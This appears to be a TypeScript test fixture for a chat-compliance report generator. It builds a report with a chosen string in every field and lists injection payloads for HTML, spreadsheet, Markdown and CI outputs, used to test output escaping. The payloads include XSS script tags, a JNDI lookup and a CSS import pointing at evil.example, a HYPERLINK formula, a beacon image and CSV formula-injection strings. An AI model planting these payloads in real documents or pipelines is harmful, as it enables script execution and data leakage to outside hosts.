import { BusinessId } from "../../src/domain/Business.ts"
import { ChatId } from "../../src/domain/Chat.ts"
import { MessageId } from "../../src/domain/Message.ts"
import { RuleId } from "../../src/domain/Rule.ts"
import type { Report } from "../../src/report/Report.ts"
import { business, changes, coverage, finding, found, report } from "./sampleReports.ts"

const unchecked = { disableValidation: true }

/** A report that has the text in every external field, including unchecked ids. */
export const hostileReport = (text: string): Report<never> => {
  const businessId = BusinessId.make(text, unchecked)
  const chatId = ChatId.make(text, unchecked)
  const rule = RuleId.make(text, unchecked)
  const findings = [
    finding({
      id: text,
      rule,
      businessId,
      chatId,
      orderId: text,
      context: text,
      at: text,
      match: text,
      excerpt: text,
      spans: [{ messageId: MessageId.make(text, unchecked), start: 0, end: 1 }],
      acknowledgement: { reason: text, until: text }
    }),
    finding({ excerpt: `${text} ████ ${text}`, match: text }),
    finding({ orderId: null, context: text })
  ]
  const point = {
    byStatus: { new: 1, repeated: 2, acknowledged: 3 },
    openBySeverity: { info: 1, warning: 1, error: 1 }
  }
  return report({
    complete: false,
    run: { id: text, startedAt: text, finishedAt: text, ruleSet: text },
    businesses: [
      business({
        businessId,
        coverage: coverage({ notScanned: [{ chatId, reason: text, message: text }] }),
        failure: { reason: text, message: text }
      }),
      business({})
    ],
    ...found(...findings),
    changes: changes({ since: { runId: text, finishedAt: text }, new: 3 }),
    trend: [
      { runId: text, finishedAt: text, complete: false, ...point },
      { runId: text, finishedAt: text, complete: true, ...point }
    ],
    rootCauses: [
      {
        wording: text,
        businessId,
        rules: [rule],
        severity: "error",
        findings: 2,
        chats: 9,
        chatIds: [chatId],
        firstAt: text,
        lastAt: text,
        match: text,
        excerpt: text
      }
    ],
    undeliveredMails: [
      { businessId, recipient: text, end: "refused", answer: text, at: text },
      { businessId, recipient: text, end: "expired", answer: "", at: text }
    ],
    chatsJudgedByOlderRules: 1
  })
}

/** Attacks on pages, spreadsheets, tickets and what is made of them. */
export const documentAttacks: Readonly<Record<string, string>> = {
  script: "<script>globalThis.owned = 1</script>",
  "image with a handler": `<img src=x onerror="globalThis.owned = 1">`,
  "end of a script": "</script><script>globalThis.owned = 1</script>",
  "end of a style": "</style><style>@import 'https://evil.example/x.css'",
  "end of an attribute": `"><a href="javascript:globalThis.owned=1">x</a>`,
  "end of an attribute in other quotes": `' onmouseover='globalThis.owned=1' x='`,
  "end of a comment": "--><![endif]><b>x</b>",
  "end of CDATA": "]]><b>x</b>",
  reference: "&#60;b&#62; &lt;b&gt; &#x0;",
  template: "{{7*7}} $\u007bjndi:ldap://evil.example} <%= 1 %>",
  formula: `=HYPERLINK("https://evil.example";"x")`,
  "formula behind a blank": "  =1+1",
  "formula behind a tab": "\t=1+1",
  "formula behind a line end": "\r\n=1+1",
  "full-width formula": "＝1+1",
  "phone number": "+7 926 555-01-42",
  "negative sum": "-2+3",
  function: "@SUM(1;2)",
  "end of a cell": `x";=1+1;"`,
  "cell by its code": "_x003D_1+1",
  "Markdown link": "[x](javascript:alert(1)) <https://evil.example>",
  "Markdown picture": "![x](https://evil.example/beacon.png)",
  "bare address": "https://evil.example www.evil.example me@evil.example",
  mention: "@channel @here #123",
  "code span's end": "` `` ```\n# x\n```",
  "table cell's end": "a | b \\| c",
  "Markdown block": "# x\n\n> y\n\n- z\n\n| a |\n| - |\n",
  "CI command": "::error file=a::b\n::set-output name=x::y %0A",
  noncharacters: "\ufffe\uffff\u{1fffe}",
  "very long": "а".repeat(5000)
}
